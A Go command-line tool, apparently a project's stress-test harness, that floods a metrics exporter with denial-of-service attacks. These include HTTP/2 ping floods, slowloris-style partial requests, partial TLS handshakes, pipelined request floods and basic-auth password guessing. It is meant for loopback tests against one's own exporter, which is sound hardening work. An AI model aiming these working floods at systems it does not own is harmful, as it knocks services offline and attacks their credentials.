// Command flood runs attacks by which a remote client can try to silence an exporter or
// to exhaust the host: connections, memory, processor, log. It is for e2e's TestFlood,
// which runs it on loopback, and for manual tests against your own exporter:
//
//	go run ./bench/flood -address=127.0.0.1:10058 -attack="pipelined requests"
//
// Without -attack it lists the attacks. Attacks need source addresses of this machine: in
// a network namespace, ip route add local 10.0.0.0/8 dev lo.
package main

import (
	"bytes"
	"context"
	"crypto/tls"
	"crypto/x509"
	"errors"
	"flag"
	"fmt"
	"io"
	"maps"
	"net"
	"net/http"
	"os"
	"os/signal"
	"slices"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"syscall"
	"time"
)

func main() {
	ctx, stop := signal.NotifyContext(context.Background(), os.Interrupt, syscall.SIGTERM)
	err := run(ctx, os.Args[1:], os.Stdout)
	stop()
	if err != nil {
		fmt.Fprintln(os.Stderr, "flood:", err)
		os.Exit(1)
	}
}

func run(ctx context.Context, args []string, stdout io.Writer) error {
	flags := flag.NewFlagSet("flood", flag.ExitOnError)
	a := &attacker{}
	flags.StringVar(&a.address, "address", "", "address and port of the exporter")
	name := flags.String("attack", "", "what to do, a list of which is printed if empty")
	lasts := flags.Duration("time", 10*time.Second, "how long")
	authority := flags.String("ca", "", "file of the authority of the exporter's certificate, for attacks over TLS")
	_ = flags.Parse(args) // exits by itself
	if *name == "" {
		for _, name := range slices.Sorted(maps.Keys(attacks())) {
			fmt.Fprintln(stdout, name)
		}
		return nil
	}
	do, ok := attacks()[*name]
	if !ok {
		return fmt.Errorf("there is no attack %q", *name)
	}
	if *authority != "" {
		b, err := os.ReadFile(*authority)
		if err != nil {
			return err
		}
		a.roots = x509.NewCertPool()
		if !a.roots.AppendCertsFromPEM(b) {
			return fmt.Errorf("%s holds no certificate", *authority)
		}
	}
	ctx, stop := context.WithTimeout(ctx, *lasts)
	defer stop()
	conn, err := dialFrom(ctx, a.one(0), a.address)
	if err != nil {
		return err
	}
	_ = conn.Close()
	do(ctx, a)
	if err := ctx.Err(); !errors.Is(err, context.DeadlineExceeded) {
		return err
	}
	return nil
}

// attacks are what a remote client can do to silence the exporter.
func attacks() map[string]func(context.Context, *attacker) {
	return map[string]func(context.Context, *attacker){
		"nothing": func(ctx context.Context, _ *attacker) { <-ctx.Done() },
		"HTTP/2 pings whose answers are not read": func(ctx context.Context, a *attacker) {
			ping := append([]byte{0, 0, 8, 6, 0, 0, 0, 0, 0}, "12345678"...)
			pings := bytes.Repeat(ping, 1000)
			a.each(ctx, 134, a.one, func(conn net.Conn) {
				secure := tls.Client(conn, &tls.Config{RootCAs: a.roots, ServerName: "127.0.0.1", NextProtos: []string{"h2", "http/1.1"}, MinVersion: tls.VersionTLS12})
				fmt.Fprint(secure, "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\x00\x00\x00\x04\x00\x00\x00\x00\x00")
				for {
					if _, err := secure.Write(pings); err != nil {
						return
					}
				}
			})
		},
		"headers of many short lines": func(ctx context.Context, a *attacker) {
			a.each(ctx, 300, a.many, func(conn net.Conn) {
				for size := 64 << 10; size > 1<<10; size /= 2 {
					_, _ = conn.Write(shortLines(size))
					_, _ = io.Copy(io.Discard, conn)
				}
			})
		},
		"headers of many short lines, the most that is taken": func(ctx context.Context, a *attacker) {
			a.each(ctx, 300, a.many, func(conn net.Conn) {
				_, _ = conn.Write(shortLines(8<<10 - 16))
				_, _ = io.Copy(io.Discard, conn)
			})
		},
		"half a TLS hello": func(ctx context.Context, a *attacker) {
			a.each(ctx, 300, a.many, func(conn net.Conn) {
				handshake(conn, 1, 64<<10-1)
				_, _ = io.Copy(io.Discard, conn)
			})
		},
		"certificates of 256 KiB": func(ctx context.Context, a *attacker) {
			a.each(ctx, 300, a.many, func(conn net.Conn) {
				secure := tls.Client(hello{conn}, &tls.Config{ServerName: "127.0.0.1", MaxVersion: tls.VersionTLS12}) //nolint:gosec // its messages are not encrypted
				_ = secure.HandshakeContext(ctx)
				handshake(conn, 11, 256<<10-1)
				_, _ = io.Copy(io.Discard, conn)
			})
		},
		"TLS handshakes": func(ctx context.Context, a *attacker) {
			a.each(ctx, 100, a.many, func(conn net.Conn) {
				secure := tls.Client(conn, &tls.Config{RootCAs: a.roots, ServerName: "127.0.0.1", MinVersion: tls.VersionTLS12})
				_ = secure.HandshakeContext(ctx)
			})
		},
		"wrong passwords": func(ctx context.Context, a *attacker) {
			a.each(ctx, 200, a.one, func(conn net.Conn) {
				secure := tls.Client(conn, &tls.Config{RootCAs: a.roots, ServerName: "127.0.0.1", MinVersion: tls.VersionTLS12})
				go func() { _, _ = io.Copy(io.Discard, secure) }()
				for i := 0; ; i++ {
					r, _ := http.NewRequestWithContext(ctx, http.MethodGet, "https://exporter/metrics", http.NoBody)
					r.SetBasicAuth("prometheus", strconv.Itoa(i))
					if err := r.Write(secure); err != nil {
						return
					}
				}
			})
		},
		"pipelined requests": func(ctx context.Context, a *attacker) {
			a.each(ctx, 41, a.one, pipeline(true, func(int) string { return "GET /metrics HTTP/1.1\r\nHost: x\r\n\r\n" }))
		},
		"pipelined requests, from the scraper's address": func(ctx context.Context, a *attacker) {
			a.each(ctx, 41, a.one, pipeline(true, func(int) string { return "GET /metrics HTTP/1.1\r\nHost: x\r\n\r\n" }))
		},
		"pipelined requests of all kinds": func(ctx context.Context, a *attacker) {
			a.each(ctx, 300, a.many, pipeline(true, kinds))
		},
		"pipelined requests whose answers are not read": func(ctx context.Context, a *attacker) {
			a.each(ctx, 300, a.many, pipeline(false, kinds))
		},
		"status pages": func(ctx context.Context, a *attacker) {
			a.each(ctx, 300, a.many, pipeline(true, func(i int) string { return fmt.Sprintf("GET /?%d HTTP/1.1\r\nHost: x\r\n\r\n", i) }))
		},
		"no encoding will do": func(ctx context.Context, a *attacker) {
			a.each(ctx, 41, a.one, pipeline(true, func(int) string {
				return "GET /metrics HTTP/1.1\r\nHost: x\r\nAccept-Encoding: identity;q=0\r\n\r\n"
			}))
		},
		"scrapes without time": func(ctx context.Context, a *attacker) {
			a.each(ctx, 41, a.one, pipeline(true, func(i int) string {
				return fmt.Sprintf("GET /metrics HTTP/1.1\r\nHost: x\r\nX-Prometheus-Scrape-Timeout-Seconds: %g\r\n\r\n", float64(i%20)/100)
			}))
		},
		"an idle connection from each of 400 addresses": func(ctx context.Context, a *attacker) {
			a.each(ctx, 400, a.crowd, func(conn net.Conn) {
				fmt.Fprint(conn, "GET /-/ready HTTP/1.1\r\nHost: x\r\n\r\n")
				_, _ = io.Copy(io.Discard, conn)
				wait(ctx, 2*time.Second)
			})
		},
		"half a request from each of 400 addresses": func(ctx context.Context, a *attacker) {
			a.each(ctx, 400, a.crowd, func(conn net.Conn) {
				fmt.Fprint(conn, "GET /metrics HTTP/1.1\r\nHo")
				_, _ = io.Copy(io.Discard, conn)
				wait(ctx, 2*time.Second)
			})
		},
	}
}

// kinds returns requests whose pages cannot be shared.
func kinds(i int) string {
	names := []string{"sockstat", "tcp", "ports", "netstat", "conntrack", "filefd", "process", "memory", "softnet", "neighbour"}
	var query strings.Builder
	for bit, name := range names {
		if i>>bit&1 == 0 {
			query.WriteString("&collect[]=" + name)
		}
	}
	encoding := []string{"gzip", "identity"}[i&1]
	return "GET /metrics?" + query.String() + " HTTP/1.1\r\nHost: x\r\nAccept-Encoding: " + encoding + "\r\n\r\n"
}

// pipeline makes requests without waiting for the responses.
func pipeline(read bool, request func(i int) string) func(net.Conn) {
	var n atomic.Int64
	return func(conn net.Conn) {
		if read {
			go func() { _, _ = io.Copy(io.Discard, conn) }()
		}
		for {
			if _, err := io.WriteString(conn, request(int(n.Add(1)))); err != nil {
				return
			}
		}
	}
}

// shortLines returns the beginning of a request, with as many headers as possible.
func shortLines(size int) []byte {
	const letters = "ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789!#$%&'*+-.^_`|~"
	b := []byte("GET /metrics HTTP/1.1\r\nHost:x\n")
	for i := 0; len(b) < size; i++ {
		for n := i; n > 0; n /= len(letters) {
			b = append(b, letters[n%len(letters)])
		}
		b = append(b, 'A', ':', '\n')
	}
	return b[:size]
}

// handshake sends a message of a TLS handshake, except its last bytes.
func handshake(conn net.Conn, kind byte, size int) {
	message := append([]byte{kind, byte(size >> 16), byte(size >> 8), byte(size)}, make([]byte, size-16)...)
	for len(message) > 0 {
		n := min(len(message), 16<<10)
		record := append([]byte{22, 3, 3, byte(n >> 8), byte(n)}, message[:n]...)
		if _, err := conn.Write(record); err != nil {
			return
		}
		message = message[n:]
	}
}

// hello lets only the beginning of a handshake through.
type hello struct{ net.Conn }

func (hello) Read([]byte) (int, error) { return 0, io.EOF }
func (hello) Close() error             { return nil }

// attacker is the source of attacks.
type attacker struct {
	address string
	roots   *x509.CertPool
}

// one returns the only address of an attack, many one of a hundred, and crowd one for
// each connection.
func (a *attacker) one(int) string     { return "10.0.0.1" }
func (a *attacker) many(i int) string  { return fmt.Sprintf("10.0.1.%d", i%100) }
func (a *attacker) crowd(i int) string { return fmt.Sprintf("10.1.%d.%d", i/250, i%250) }

// each keeps the given number of connections busy, and replaces those that end.
func (a *attacker) each(ctx context.Context, connections int, from func(int) string, use func(net.Conn)) {
	var all sync.WaitGroup
	for i := range connections {
		all.Go(func() {
			wait(ctx, time.Duration(i)*5*time.Millisecond) // the first ones are opened one after the other
			for ctx.Err() == nil {
				conn, err := dialFrom(ctx, from(i), a.address)
				if err != nil {
					wait(ctx, 10*time.Millisecond)
					continue
				}
				stop := context.AfterFunc(ctx, func() { _ = conn.Close() })
				use(conn)
				stop()
				_ = conn.Close()
			}
		})
	}
	all.Wait()
}

func dialFrom(ctx context.Context, from, address string) (net.Conn, error) {
	d := net.Dialer{LocalAddr: &net.TCPAddr{IP: net.ParseIP(from)}, Timeout: 10 * time.Second}
	return d.DialContext(ctx, "tcp", address)
}

// wait waits for the given time, or until the context ends.
func wait(ctx context.Context, d time.Duration) {
	select {
	case <-ctx.Done():
	case <-time.After(d):
	}
}
